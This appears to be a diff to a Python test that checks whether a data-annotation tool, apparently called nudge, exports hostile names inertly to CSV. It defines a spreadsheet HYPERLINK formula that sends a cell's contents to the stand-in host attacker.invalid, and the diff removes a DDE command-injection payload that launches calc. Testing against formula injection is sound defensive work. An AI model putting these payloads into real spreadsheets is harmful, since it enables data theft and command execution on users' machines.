@@ -23,7 +23,7 @@ from nudge.loop.session.session import Session
 from nudge.loop.store.store import Store
 
 HYPERLINK = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
-SESSION = "+SUM(1+1)*cmd|' /C calc'!A0"
+SESSION = "hostile"  # a session name cannot be a formula: only letters, digits, '.', '-', '_' (loop.limits)
 pytestmark = pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning")
 
 
@@ -56,8 +56,7 @@ def test_hostile_names_from_the_api_are_exported_inert_to_csv_and_exact_to_jsonl
 
     with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as handle:
         rows = list(csv.DictReader(handle))
-    assert [(r["annotator"], r["session"]) for r in rows] == [
-        ("'" + HYPERLINK, "'" + SESSION), ("'@evil", "'" + SESSION)]
+    assert [(r["annotator"], r["session"]) for r in rows] == [("'" + HYPERLINK, SESSION), ("'@evil", SESSION)]
     assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     answer = rows[0]
     assert json.loads(answer["directions"]) == [[-0.5, 0.25]]  # a JSON cell starts with "[" and stays JSON
